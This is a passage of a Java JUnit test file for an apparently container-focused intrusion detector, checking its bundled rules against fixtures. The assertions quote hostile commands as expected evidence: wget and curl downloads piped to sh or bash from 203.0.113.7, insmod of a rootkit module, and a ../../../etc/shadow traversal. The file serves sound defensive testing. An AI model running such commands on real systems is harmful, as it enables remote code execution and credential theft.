package dev.dockward.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class BundledRulesTest {
  private static final LoadResult LOADED = RuleLoader.load(RuleFiles.bundled());
  private static final RuleEngine ENGINE = new RuleEngine(LOADED.ruleSet());

  @Test
  void bundledRulesLoadWithoutAnyProblem() {
    assertEquals(List.of(), LOADED.problems());
    assertEquals(
        List.of(
            "privileged_container_started",
            "dangerous_capability_added",
            "docker_socket_mounted",
            "sensitive_host_mount",
            "host_namespace_shared",
            "container_exec_session",
            "shell_in_container",
            "sensitive_file_read_in_container",
            "directory_traversal_read_in_container",
            "binary_not_in_image",
            "exec_from_temp_dir_in_container",
            "shell_with_network_socket",
            "network_stdio_in_container",
            "network_stdio_redirect_in_container",
            "netcat_program_exec_in_container",
            "container_escape_namespace",
            "ptrace_in_container",
            "ptrace_traceme_in_container",
            "container_privilege_escalation",
            "kernel_module_loaded_from_container",
            "docker_socket_access_from_container",
            "cgroup_mount_in_container",
            "cgroup_release_agent_write",
            "core_pattern_modified",
            "core_pattern_pipe_set",
            "host_file_written_from_container",
            "namespace_unshare_in_container",
            "capability_gained_in_container",
            "container_loader_preload_write",
            "container_persistence_write",
            "device_mapped_into_container",
            "block_device_mount_in_container",
            "debugfs_mount_in_container",
            "packet_socket_in_container",
            "fork_bomb",
            "memory_exhaustion",
            "container_oom_killed",
            "cpu_saturation",
            "network_flood",
            "io_saturation",
            "host_memory_exhaustion",
            "host_pids_exhaustion",
            "host_posture_weakness",
            "host_posture_critical_weakness",
            "agent_dropping_events",
            "journal_overflow",
            "agent_sensor_degraded",
            "unexpected_inter_container_flow",
            "container_to_host_sensitive_port",
            "network_scan_from_container",
            "source_address_spoofed_from_container",
            "credential_search_in_container",
            "cloud_credential_search_in_container",
            "bulk_data_wipe_in_container",
            "debugfs_program_in_container",
            "log_clearing_in_container",
            "script_from_temp_dir_in_container",
            "ssh_to_non_standard_port_in_container",
            "sensitive_file_link_in_container",
            "sensitive_file_link_call_in_container",
            "system_user_interactive_in_container",
            "cloud_metadata_access_from_container",
            "cloud_metadata_flow_from_container",
            "crypto_miner_in_container",
            "mining_pool_connection_from_container",
            "crypto_miner_burning_cpu",
            "k8s_api_contact_from_container",
            "download_piped_to_shell_in_container",
            "package_manager_in_container",
            "recon_tool_in_container",
            "loader_hijack_env_in_container"),
        LOADED.ruleSet().rules().stream().map(Rule::id).toList());
  }

  /** A bundled rule's own examples ({@code fixtures:}, shown by rules show) agree with it. */
  @Test
  void everyBundledFixtureAgreesWithItsRule() {
    int checked = 0;
    for (Rule rule : LOADED.ruleSet().rules()) {
      if (rule.holdFor().isPresent() || rule.window().isPresent()) {
        continue; // fires on a series of events, not on one
      }
      for (RuleFixture f : rule.fixtures()) {
        RuleEngine one = new RuleEngine(LOADED.ruleSet().only(rule.id()).orElseThrow());
        assertEquals(f.fires(), !one.evaluate(f.event()).isEmpty(), rule.id() + ": " + f.name());
        checked++;
      }
    }
    assertTrue(
        checked >= 6,
        "the fixtures of docker_socket_mounted and shell_in_container at least: " + checked);
  }

  @Test
  void everyBundledRuleHasDescriptionMitreTagAndOutput() {
    for (Rule rule : LOADED.ruleSet().rules()) {
      assertFalse(rule.description().isBlank(), rule.id());
      assertTrue(
          rule.tags().stream().anyMatch(t -> t.matches("mitre\\.T\\d{4}(\\.\\d{3})?")), rule.id());
      // Posture findings are often about the host, and the agent's own rules about itself:
      // those name the host instead of a container.
      assertTrue(
          rule.output().contains("{container.name}")
              || rule.origin().equals("bundled/posture.yaml")
              || (rule.origin().equals("bundled/agent.yaml")
                  && rule.output().contains("{host.name}")),
          rule.id());
      assertTrue(rule.origin().startsWith("bundled/"), rule.id());
    }
  }

  /** Positive fixtures: exactly these rules fire (several separated by spaces). */
  @ParameterizedTest
  @CsvSource({
    "container_start_privileged,     privileged_container_started",
    "container_start_cap_sys_admin,  dangerous_capability_added",
    "container_start_docker_socket,  docker_socket_mounted",
    "container_start_etc_mount,      sensitive_host_mount",
    "container_start_host_namespaces, host_namespace_shared",
    "docker_exec,                    container_exec_session",
    "exec_shell_in_container,        shell_in_container download_piped_to_shell_in_container", // sh
    // -c
    // "wget … | sh"
    "posture_open_critical,          host_posture_critical_weakness",
    "posture_open_high_container,    host_posture_weakness",
    "exec_escape_nsenter_host_namespaces, container_escape_namespace",
    "exec_escape_host_net_not_granted, container_escape_namespace",
    "exec_runc_init_name_spoofed,    container_escape_namespace", // named runc init, runs no
    // installed runc
    "exec_runc_init_parent_not_runtime, container_escape_namespace", // the real runc, started by a
    // container shell
    "exec_runc_init_for_another_container, container_escape_namespace", // its runc works for
    // another container
    "ptrace_from_container_to_host,  ptrace_in_container",
    "uid_change_to_root_in_container, container_privilege_escalation",
    "exec_setuid_root_in_container,  container_privilege_escalation",
    "agent_heartbeat_with_drops,     agent_dropping_events",
    "agent_started_sensor_degraded,  agent_sensor_degraded",
    "flow_unexpected_between_containers, unexpected_inter_container_flow",
    "flow_to_gateway_docker_api,     container_to_host_sensitive_port",
    "flow_scan_many_ports,           network_scan_from_container",
    "flow_spoofed_neighbour_address, source_address_spoofed_from_container",
    "flow_spoofed_foreign_address,   source_address_spoofed_from_container",
    "flow_spoofed_neighbour_mac_and_address, source_address_spoofed_from_container", // by its
    // bridge port
    "exec_insmod_in_container,       kernel_module_loaded_from_container",
    "host_file_kernel_modules_in_container, kernel_module_loaded_from_container",
    "exec_busybox_modprobe_in_container, kernel_module_loaded_from_container",
    "exec_busybox_exe_modprobe_in_container, kernel_module_loaded_from_container", // comm "exe"
    "exec_docker_client_in_container, docker_socket_access_from_container",
    "file_open_hostetc_shadow_by_dd, sensitive_file_read_in_container", // the host's shadow through
    // /hostetc
    "file_open_own_shadow_opener_gone, sensitive_file_read_in_container", // told by the mark, no
    // process
    "file_open_ssh_host_key_by_renamed_cat, sensitive_file_read_in_container", // not sshd: a
    // renamed reader
    "exec_binary_written_after_start, binary_not_in_image crypto_miner_in_container", // a dropped
    // xmrig
    "exec_from_dev_shm_in_container, exec_from_temp_dir_in_container",
    "exec_reverse_shell_allowed_shell_label, shell_with_network_socket", // the label allows shells,
    // not reverse ones
    "exec_nc_e_in_container,         netcat_program_exec_in_container",
    // Debian's static busybox re-runs itself through /proc/self/exe: comm "exe", program "nc"
    "exec_busybox_exe_nc_e_in_container, netcat_program_exec_in_container",
    "exec_busybox_named_nc_e_in_container, netcat_program_exec_in_container", // busybox nc -e …
    "exec_ncat_symlink_renamed_in_container, netcat_program_exec_in_container", // /tmp/httpd ->
    // ncat: the exe
    "exec_busybox_exe_shell_in_container, shell_in_container", // busybox sh with comm "exe"
    "container_mount_cgroup_net_cls, cgroup_mount_in_container",
    "daemon_socket_client_in_container, docker_socket_access_from_container",
    "host_file_release_agent_set,    cgroup_release_agent_write",
    "host_file_notify_on_release_in_container, cgroup_release_agent_write",
    "host_file_core_pattern_pipe,    core_pattern_pipe_set",
    "host_file_core_pattern_file,    core_pattern_modified",
    "agent_journal_overflow,         journal_overflow",
    "host_file_write_etc_crontab,    host_file_written_from_container",
    "host_file_write_authorized_keys, host_file_written_from_container",
    "host_file_write_writer_gone,    host_file_written_from_container",
    // made from host_file_write_writer_gone: no mount, the host's runc binary (runc's exe
    // overwrite)
    "host_file_write_outside_mounts_runc, host_file_written_from_container",
    "container_file_write_ld_so_preload, container_loader_preload_write",
    "container_file_write_etc_file,  container_persistence_write", // category etc, busybox sh
    // writing /etc/zz-marker
    "container_mount_block_device_loop, block_device_mount_in_container", // a loop device given
    // with --device
    "container_mount_debugfs,        debugfs_mount_in_container", // and not
    // cgroup_mount_in_container
    "packet_socket_udhcpc_in_container, packet_socket_in_container", // busybox udhcpc -i lo
    // audit mode: seen at socket(), closed before the descriptor was read (no inode)
    "packet_socket_opened_and_closed_from_audit, packet_socket_in_container",
    "oom_event_first_report_of_a_kill, container_oom_killed", // Docker's event came before any
    // sample
    "container_stop_oom_killed_unreported, container_oom_killed", // died before anything else saw
    // the kill
    "exec_wget_cloud_metadata_in_container, cloud_metadata_access_from_container",
    "exec_curl_gcp_metadata_in_container, cloud_metadata_access_from_container",
    "flow_to_cloud_metadata,         cloud_metadata_flow_from_container",
    "exec_xmrig_in_container,        crypto_miner_in_container",
    "exec_renamed_miner_stratum_in_container, crypto_miner_in_container", // a name no list has, a
    // pool URL
    "flow_to_mining_pool_port,       mining_pool_connection_from_container",
    "flow_to_k8s_api_server,         k8s_api_contact_from_container",
    "exec_wget_piped_to_sh_allowed_label, download_piped_to_shell_in_container", // the label allows
    // shells
    "exec_bash_fed_by_curl_pipeline_allowed_label, download_piped_to_shell_in_container", // told by
    // its
    // parent
    "exec_sh_command_substitution_curl_allowed_label, download_piped_to_shell_in_container", // sh
    // -c
    // "$(curl …)"
    "exec_apt_get_install_from_exec_session, package_manager_in_container",
    "exec_apk_add_from_entrypoint,   package_manager_in_container",
    "exec_dpkg_install_in_container, package_manager_in_container",
    "exec_pip_install_in_container,  package_manager_in_container",
    "exec_nmap_in_container,         recon_tool_in_container",
    "exec_tcpdump_in_container,      recon_tool_in_container",
    "namespace_change_unshare_user_in_container, namespace_unshare_in_container",
    "capability_change_file_caps_setuid_in_container, capability_gained_in_container",
    "exec_ld_preload_in_container,   loader_hijack_env_in_container",
    "exec_ld_library_path_tmp_in_container, loader_hijack_env_in_container",
    "exec_ld_preload_overriding_image_in_container, loader_hijack_env_in_container", // docker run
    // -e over the
    // image's
    "exec_ld_audit_beside_image_preload_in_container, loader_hijack_env_in_container", // the
    // image's
    // preload
    // and an
    // audit
    // library
    "exec_glibc_tunables_setuid_in_container, container_privilege_escalation loader_hijack_env_in_container",
    "file_link_symlink_to_shadow_by_program, sensitive_file_link_call_in_container", // a program's
    // own
    // symlink()
    "file_link_hard_dotdot_to_shadow, sensitive_file_link_call_in_container", // ../../etc/shadow,
    // resolved
    "file_link_symlink_into_sudoers_d, sensitive_file_link_call_in_container", // a link dropped
    // into sudoers.d
    "file_link_symlink_to_root_ssh_key, sensitive_file_link_call_in_container", // a key under a
    // home directory
    "ptrace_traceme_in_container,    ptrace_traceme_in_container",
    // a credentials file opened by a name that climbs twice, as a path-traversal flaw passes it
    "watched_file_open_traversal_in_container, directory_traversal_read_in_container",
    "watched_file_open_traversal_from_web_root_in_container, directory_traversal_read_in_container",
    "exec_cat_with_tcp_stdio_in_container, network_stdio_in_container", // what nc -e runs: not a
    // shell
    // a reverse shell's own dup2(socket, 1), heard by audit after its exec
    "stdio_redirect_dup2_tcp_onto_stdout_in_container, network_stdio_redirect_in_container",
  })
  void positiveFixtureFiresExactlyItsRule(String fixture, String rules) {
    assertEquals(List.of(rules.split(" ")), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
  }

  /** Negative fixtures: the same kind of event, harmless; nothing fires. */
  @ParameterizedTest
  @CsvSource({
    "container_start_plain", // not privileged, bridge network, read-only bind of /srv/data
    "container_start_cap_harmless", // cap_add of capabilities in Docker's default set
    "container_start_volume", // a named volume below /var/lib/docker is not a bind of Docker's data
    "container_stop", // the same container stopping is no exec session
    "exec_shell_on_host", // a host process named sh
    "exec_shell_allowed_label", // the container opts out with dockward.allow-shell=true
    "exec_httpd_in_container", // a process in a container that is no shell
    "posture_resolved_critical", // a weakness that went away
    "posture_open_low", // a low finding stays an event
    "exec_runc_init_during_container_start", // runc's init (a copy of the installed runc, child of
    // runc
    // create for this container) before it enters its namespaces
    "agent_heartbeat_quiet", // a heartbeat that lost nothing
    "agent_heartbeat_sensor_still_degraded", // reported when it degraded, not on every heartbeat
    "exec_host_network_container", // host net namespace, granted by network_mode host
    "exec_host_pid_container", // host pid namespace, granted by pid_mode host
    "exec_host_pid_unresolved_container", // a --pid=host container's first process, not yet in the
    // inventory
    "exec_host_process_in_host_namespaces", // dockerd itself: no container
    "uid_change_drop_privileges_in_container", // root dropping to a worker uid
    "uid_change_to_root_on_host", // su on the host is no container's business
    "ptrace_from_host_to_container", // an admin's strace from the host
    "flow_allowed_between_containers", // an edge the policy allows
    "flow_learned_between_containers", // an edge recorded in learning mode
    "flow_unexpected_end", // the same unexpected flow ending: alerted at its start only
    "flow_to_gateway_http", // the gateway on a port that is not sensitive
    "flow_to_external_docker_api", // 2375 on an address that is not the host's
    "flow_few_ports", // a handful of ports is no scan
    "exec_shell_with_pipes_allowed_label", // an allowed shell on pipes
    "exec_nc_listen_in_container", // nc listening, running nothing
    "exec_cat_ordinary_file_in_container", // a path that only starts like a credentials file
    "exec_busybox_exe_ls_in_container", // a busybox applet with comm "exe" that is no shell or
    // netcat
    "file_link_ordinary_library_in_container", // a library's version link
    "file_link_shadow_like_name_in_container", // /srv/etc/shadow is not the container's shadow
    "file_link_symlink_to_shadow_on_host", // a host process: no container
    "ptrace_traceme_on_host", // a debugger on the host
    "watched_file_open_absolute_shadow_in_container", // /etc/shadow by its own name: the
    // file_open of the same read raises sensitive_file_read_in_container, this one nothing
    "watched_file_open_one_dotdot_in_container", // one "../" (scripts, configuration): not two
    "watched_file_open_dotdot_like_names_in_container", // names that only start with ".."
    "watched_file_open_traversal_on_host", // a host process: no container
    "exec_node_with_unix_stdio_in_container", // a server on unix sockets
    "stdio_redirect_dup3_unix_onto_stdin_in_container", // a unix socket put on stdin: no network
    // peer
    "exec_ln_symlink_shadow_from_audit", // audit saw the exec, so it sees the symlink() call: that
    // raises it
    "exec_cat_hostetc_hosts_in_container", // a host file through the /etc bind that is no
    // credentials
    "exec_cat_shadow_named_file_without_etc_mount", // a file called shadow where no /etc is bound
    // An exec naming a credentials file is not its open: the open itself raises the alert.
    "exec_cat_host_shadow_in_container",
    "exec_cat_hostetc_shadow_in_container",
    "exec_cat_bound_kube_admin_conf_in_container",
    "file_open_ssh_host_key_by_sshd", // the SSH daemon reading its own host key
    "exec_insmod_named_file_in_container", // "insmod" as an argument, not the program
    "host_file_release_agent_cleared", // a release agent removed
    "daemon_socket_client_on_host", // the docker CLI on the host
    "host_file_notify_on_release_off", // notifications turned off
    "host_file_kernel_modules_on_host", // modules the kernel loaded for dockerd (a new bridge): no
    // container
    "host_file_write_data_dir", // a host directory mounted for data, recorded as the agent saw it
    "oom_event_repeat_of_a_kill", // Docker's second report of the same kill
    "container_stop_oom_killed_already_reported", // the kill was alerted when it was reported
    "resource_sample_oom_kill_already_reported", // the counter catching up with a kill Docker
    // reported
    "exec_wget_internal_service_in_container", // wget of a neighbour's health check
    "flow_to_external_https", // the internet on 443: no metadata, no pool port
    "flow_kind_node_to_its_api_server", // a kind node is the cluster itself
    "exec_cat_stratum_log_in_container", // "stratum" in a file name is no pool URL
    "exec_wget_piped_to_grep_allowed_label", // a download piped to grep, not to a shell
    "exec_rpm_query_in_container", // rpm -qi queries, installs nothing
    "exec_apt_list_installed_in_container", // apt list --installed
    "namespace_change_runc_init_entering_container", // from the host's namespaces into the
    // container's
    "namespace_change_nsenter_into_host", // into the host's: container_escape_namespace's, at the
    // exec
    "namespace_change_without_host_reference", // runc and unshare cannot be told apart: silent
    "capability_change_ping_net_raw_in_container", // ping's file capability
    "capability_change_runc_init_dropping", // capabilities dropped, none gained
    "capability_change_in_new_user_namespace", // held in its own user namespace only
    "capability_change_setuid_root_in_container", // became root: container_privilege_escalation's
    "exec_ld_library_path_system_in_container", // a library path of its own and a malloc tunable
    "exec_ld_preload_allowed_label", // an image preloading jemalloc, allowed by its deployer
    "exec_ld_preload_from_image_in_container", // the same preload set by the image itself, no label
  })
  void negativeFixtureFiresNothing(String fixture) {
    assertEquals(List.of(), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
  }

  @Test
  void aLoaderVariableFromTheImageIsNotNamedAmongTheKeysThatFired() {
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("exec_ld_audit_beside_image_preload_in_container")).get(0);
    assertEquals(List.of("LD_AUDIT"), match.evidence().get("keys"));
    assertEquals(List.of("LD_PRELOAD"), match.evidence().get("from_image"));
  }

  @Test
  void aPackageManagerSaysWhetherAnExecSessionOrTheMainProcessRanIt() {
    RuleMatch exec =
        ENGINE.evaluate(Fixtures.event("exec_apt_get_install_from_exec_session")).get(0);
    assertEquals("from a docker exec session", exec.evidence().get("started_by"));
    RuleMatch entrypoint = ENGINE.evaluate(Fixtures.event("exec_apk_add_from_entrypoint")).get(0);
    assertEquals("from the container's main process", entrypoint.evidence().get("started_by"));
    RuleMatch unknown = ENGINE.evaluate(Fixtures.event("exec_dpkg_install_in_container")).get(0);
    assertEquals(
        "from an unknown origin",
        unknown.evidence().get("started_by"),
        "no ancestors: not guessed");
  }

  @Test
  void aDownloadPipedToAShellNamesThePipelineWhereverItWasSeen() {
    RuleMatch own = ENGINE.evaluate(Fixtures.event("exec_wget_piped_to_sh_allowed_label")).get(0);
    assertEquals("sh -c wget -qO- http://203.0.113.7/i.sh | sh", own.evidence().get("pipeline"));
    RuleMatch fed =
        ENGINE.evaluate(Fixtures.event("exec_bash_fed_by_curl_pipeline_allowed_label")).get(0);
    assertEquals(
        "bash -c curl -fsSL https://203.0.113.7/install.sh | bash", fed.evidence().get("pipeline"));
  }

  @Test
  void minerAndMetadataEvidenceSayWhatGaveThemAway() {
    RuleMatch renamed =
        ENGINE.evaluate(Fixtures.event("exec_renamed_miner_stratum_in_container")).get(0);
    assertEquals(false, renamed.evidence().get("by_name"));
    assertEquals(List.of("stratum+tcp://", "--donate-level"), renamed.evidence().get("arguments"));
    assertEquals(
        true,
        ENGINE
            .evaluate(Fixtures.event("exec_xmrig_in_container"))
            .get(0)
            .evidence()
            .get("by_name"));
    RuleMatch gcp = ENGINE.evaluate(Fixtures.event("exec_curl_gcp_metadata_in_container")).get(0);
    assertEquals(List.of("metadata.google.internal"), gcp.evidence().get("hosts"));
  }

  @Test
  void namespaceAndCapabilityRulesNameWhatWasCreatedOrGained() {
    RuleMatch unshare =
        ENGINE.evaluate(Fixtures.event("namespace_change_unshare_user_in_container")).get(0);
    assertEquals(List.of("user"), unshare.evidence().get("created"));
    assertEquals(true, unshare.evidence().get("new_user_namespace"));
    RuleMatch caps =
        ENGINE.evaluate(Fixtures.event("capability_change_file_caps_setuid_in_container")).get(0);
    assertEquals(List.of("SETUID"), caps.evidence().get("gained"));
    assertEquals(Severity.HIGH, caps.rule().severity());
  }

  @Test
  void aCredentialsOpenNamesTheOpenerAndTheHostFile() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("file_open_hostetc_shadow_by_dd")).get(0);
    assertEquals("dd (pid 28601)", match.evidence().get("opener"));
    assertEquals("/etc/shadow", match.evidence().get("host_path"));
    assertEquals("mount", match.evidence().get("attributed_by"));
    assertEquals(List.of("/etc/shadow"), match.evidence().get("files"));
    assertEquals(List.of("/etc:/hostetc"), match.evidence().get("through_mounts"));
    assertEquals(
        "dd (pid 28601) in container lucid_rubin (dockward/busybox:test) opened the credentials file "
            + "/hostetc/shadow (the host's /etc/shadow)",
        match.summary());
    RuleMatch gone = ENGINE.evaluate(Fixtures.event("file_open_own_shadow_opener_gone")).get(0);
    assertEquals(
        "pid 28602 in container lucid_rubin (dockward/busybox:test) opened the credentials file "
            + "/etc/shadow",
        gone.summary());
    assertEquals("", gone.evidence().get("host_path"));
    assertEquals(List.of("/etc/shadow"), gone.evidence().get("files"));
    assertEquals(List.of(), gone.evidence().get("through_mounts"));
  }

  @Test
  void aTraversalReadNamesTheNameAsPassedTheWorkingDirectoryAndTheFile() {
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("watched_file_open_traversal_in_container")).get(0);
    assertEquals("directory_traversal_read_in_container", match.rule().id());
    assertEquals(Severity.HIGH, match.rule().severity());
    assertEquals("../../../etc/shadow", match.evidence().get("requested_path"));
    assertEquals("/usr/bin", match.evidence().get("cwd"));
    assertEquals("/etc/shadow", match.evidence().get("file"));
    assertEquals("openat", match.evidence().get("call"));
    assertEquals(
        "cat (pid 31877) in container web (dockward/busybox:test) opened the credentials file"
            + " /etc/shadow by the traversing name \"../../../etc/shadow\" (working directory"
            + " /usr/bin)",
        match.summary());
  }

  @Test
  void aNetcatBehindCommExeIsNamedByItsProgram() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("exec_busybox_exe_nc_e_in_container")).get(0);
    assertTrue(match.summary().startsWith("nc (pid 4321) in container web"), match.summary());
    assertEquals("exe", match.evidence().get("name"));
    Map<String, Object> event = Fixtures.event("exec_busybox_exe_nc_e_in_container");
    Map<?, ?> process = (Map<?, ?>) AlertDocuments.of(match.toAlert("a1", event)).get("process");
    assertEquals("nc", process.get("program"), "the alert names the program as well as comm");
    assertEquals("exe", process.get("name"));
  }

  @Test
  void aRecordWithoutProgramIsMatchedByItsName() {
    // journals of earlier versions have no process.program: the name stands in
    Map<String, Object> event = Fixtures.event("exec_busybox_exe_nc_e_in_container");
    @SuppressWarnings("unchecked")
    Map<String, Object> process = (Map<String, Object>) event.get("process");
    process.remove("program");
    assertEquals(List.of(), Fixtures.firedIds(ENGINE, event), "comm exe names no tool");
    process.put("name", "nc");
    assertEquals(List.of("netcat_program_exec_in_container"), Fixtures.firedIds(ENGINE, event));
  }

  @Test
  void aModuleLoadNamesTheModulesAndTheLoader() {
    RuleMatch exec = ENGINE.evaluate(Fixtures.event("exec_insmod_in_container")).get(0);
    assertEquals("", exec.evidence().get("modules_loaded"));
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("host_file_kernel_modules_in_container")).get(0);
    assertEquals("rootkit", match.evidence().get("modules_loaded"));
    assertTrue(
        match.summary().startsWith("kernel modules rootkit were loaded while insmod (pid "),
        match.summary());
    assertTrue(match.summary().endsWith("): insmod /tmp/rootkit.ko"), match.summary());
  }

  @Test
  void hostFileWriteNamesTheWriterTheHostFileAndTheMount() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("host_file_write_etc_crontab")).get(0);
    assertEquals(
        "sleep (pid 28577) in container lucid_rubin (dockward/busybox:test) wrote the host's /etc/crontab"
            + " (as /hostdata/crontab, bind mount of /etc)",
        match.summary());
    assertEquals("/etc", match.evidence().get("mount_source"));
    assertEquals("sleep 1", match.evidence().get("cmdline"));
    // the writer ended before it was read: the event keeps its pid
    assertEquals(
        "pid 28577 in container lucid_rubin (dockward/busybox:test) wrote the host's /etc/crontab"
            + " (as /hostdata/crontab, bind mount of /etc)",
        ENGINE.evaluate(Fixtures.event("host_file_write_writer_gone")).get(0).summary());
    assertEquals(
        "pid 28577 in container lucid_rubin (dockward/busybox:test) wrote the host's /usr/sbin/runc"
            + " (as /usr/sbin/runc, outside the container's mounts)",
        ENGINE.evaluate(Fixtures.event("host_file_write_outside_mounts_runc")).get(0).summary());
  }

  @Test
  void containerFileWritesNameTheWriterAndThePlace() {
    RuleMatch preload =
        ENGINE.evaluate(Fixtures.event("container_file_write_ld_so_preload")).get(0);
    assertTrue(
        preload
            .summary()
            .matches(
                "sh \\(pid 29591\\) in container h-covsense-persist-[0-9a-f]{8}"
                    + " \\(dockward/busybox:test\\) wrote /etc/ld.so.preload: every program started there now loads what"
                    + " it lists"),
        preload.summary());
    assertEquals("/etc/ld.so.preload", preload.evidence().get("path"));
    RuleMatch etc = ENGINE.evaluate(Fixtures.event("container_file_write_etc_file")).get(0);
    assertEquals("etc", etc.evidence().get("category"));
    assertTrue(etc.summary().endsWith(" wrote /etc/zz-marker (etc)"), etc.summary());
  }

  @Test
  void aPacketSocketNamesItsHolderAndAnAllowedProgramIsSpared() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("packet_socket_udhcpc_in_container")).get(0);
    assertTrue(
        match
            .summary()
            .matches(
                "udhcpc \\(pid [0-9]+\\) in container h-covsense-sniffer-[0-9a-f]{8}"
                    + " \\(dockward/busybox:test\\) opened a dgram packet socket \\(protocol 0x0800\\)"),
        match.summary());
    List<RuleFile> files = new ArrayList<>(RuleFiles.bundled());
    files.add(
        new RuleFile(
            "rules.d/tuning.yaml",
            "overrides:\n  - list: packet_socket_allowed_programs\n    append: [udhcpc]\n"));
    LoadResult tuned = RuleLoader.load(files);
    assertEquals(List.of(), tuned.problems());
    assertEquals(
        List.of(),
        Fixtures.firedIds(
            new RuleEngine(tuned.ruleSet()), Fixtures.event("packet_socket_udhcpc_in_container")),
        "a DHCP client the admin allows");
  }

  @Test
  void aRedirectNamesTheStreamTheCallAndTheDescriptors() {
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("stdio_redirect_dup2_tcp_onto_stdout_in_container")).get(0);
    assertEquals(
        "redirect (pid 31877) in container h-auditcalls-redirect-0b7f44de (dockward/busybox:test) put a"
            + " tcp socket on its stdout with dup2",
        match.summary());
    assertEquals("stdout", match.evidence().get("stream"));
    assertEquals(3L, ((Number) match.evidence().get("from_fd")).longValue());
    assertEquals("/x/redirect", match.evidence().get("exe"));
  }

  @Test
  void aPacketSocketSeenAtItsCallSaysSoAndThatItsInodeIsUnknown() {
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("packet_socket_opened_and_closed_from_audit")).get(0);
    assertEquals("audit", match.evidence().get("seen_by"));
    assertEquals(
        -1L, ((Number) match.evidence().get("inode")).longValue(), "closed before it was read");
    assertEquals("0003", match.evidence().get("protocol"));
    assertTrue(
        match.summary().startsWith("packet (pid 30412) in container h-auditcalls-packet-5c1e09aa"),
        match.summary());
    RuleMatch table = ENGINE.evaluate(Fixtures.event("packet_socket_udhcpc_in_container")).get(0);
    assertEquals(4520829L, ((Number) table.evidence().get("inode")).longValue());
    assertEquals("host_watch", table.evidence().get("seen_by"));
  }

  @Test
  void aContainerGivenAHostDeviceRaisesDeviceMappedBesideItsCapability() {
    Map<String, Object> event =
        Fixtures.event("container_start_loop_device"); // --cap-add SYS_ADMIN --device
    assertEquals(
        List.of("dangerous_capability_added", "device_mapped_into_container"),
        Fixtures.firedIds(ENGINE, event).stream().sorted().toList());
    RuleMatch match =
        ENGINE.evaluate(event).stream()
            .filter(m -> m.rule().id().equals("device_mapped_into_container"))
            .findFirst()
            .orElseThrow();
    assertEquals(List.of("/dev/loop0 -> /dev/xdisk (rwm)"), match.evidence().get("devices"));
  }

  @Test
  void unexpectedFlowNamesBothContainersAndThePort() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("flow_unexpected_between_containers")).get(0);
    assertEquals(
        "container web (nginx:1.25) opened an unexpected tcp flow to container db (postgres:16) port 5432"
            + " on docker0",
        match.summary());
    assertEquals("web>db tcp/5432", match.evidence().get("edge"));
  }

  @Test
  void spoofedSourceNamesTheRealSenderAndTheAddressOwner() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("flow_spoofed_neighbour_address")).get(0);
    assertEquals(
        "container web (nginx:1.25) sent a tcp flow to db (172.17.0.2) with the source address 172.17.0.4,"
            + " which is container cache's, on docker0",
        match.summary());
    assertEquals("cache", match.evidence().get("address_owner"));
    assertEquals("172.17.0.4", match.evidence().get("spoofed_ip"));
    assertEquals("02:42:ac:11:00:03", match.evidence().get("src_mac"));
    assertEquals("address", match.evidence().get("forged"));
    assertEquals(Severity.HIGH, match.rule().severity());
  }

  @Test
  void aForgedMacAndAddressNameTheSenderByItsPortAndSaySo() {
    RuleMatch match =
        ENGINE.evaluate(Fixtures.event("flow_spoofed_neighbour_mac_and_address")).get(0);
    assertTrue(match.summary().startsWith("container web (nginx:1.25) sent"), match.summary());
    assertEquals("cache", match.evidence().get("address_owner"));
    assertEquals("02:42:ac:11:00:04", match.evidence().get("src_mac"), "the MAC as forged");
    assertEquals("mac_and_address", match.evidence().get("forged"));
  }

  @Test
  void dangerousCapabilityEvidenceNamesOnlyTheDangerousOnes() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_cap_sys_admin")).get(0);
    assertEquals(List.of("SYS_ADMIN", "NET_ADMIN"), match.evidence().get("capabilities"));
    assertEquals(
        "container web (dockward/busybox:test) started with dangerous capabilities SYS_ADMIN,NET_ADMIN",
        match.summary());
  }

  @Test
  void dockerSocketIsNotAlsoReportedAsSensitiveMount() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_docker_socket")).get(0);
    assertEquals(
        List.of("/var/run/docker.sock -> /var/run/docker.sock"), match.evidence().get("sockets"));
    assertEquals(true, match.evidence().get("writable"));
  }

  @Test
  void sensitiveMountEvidenceListsOnlyTheSensitivePaths() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_etc_mount")).get(0);
    assertEquals(List.of("/etc/ssh -> /host/ssh (rw)"), match.evidence().get("paths"));
  }

  @Test
  void hostNamespaceEvidenceSaysWhich() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_host_namespaces")).get(0);
    assertEquals(List.of("pid", "network"), match.evidence().get("namespaces"));
    assertEquals(
        "container web (dockward/busybox:test) shares host namespaces: pid,network",
        match.summary());
  }

  @Test
  void execSessionEvidenceCarriesTheExec() {
    RuleMatch match = ENGINE.evaluate(Fixtures.event("docker_exec")).get(0);
    assertEquals(
        Map.of("cmdline", "sh -c id", "user", "root", "tty", true, "privileged", false),
        match.evidence());
    assertEquals(
        "docker exec in container web (dockward/busybox:test): sh -c id as user root",
        match.summary());
  }

  @Test
  void shellAlertDocumentFollowsTheContract() {
    Map<String, Object> event = Fixtures.event("exec_shell_in_container");
    RuleMatch match = ENGINE.evaluate(event).get(0);
    Map<String, Object> doc = AlertDocuments.of(match.toAlert("h1-000000000000002a", event));
    assertEquals(
        List.of(
            "schema",
            "kind",
            "id",
            "time",
            "host",
            "rule",
            "rule_title",
            "rule_description",
            "severity",
            "tags",
            "summary",
            "container",
            "process",
            "evidence",
            "event_id"),
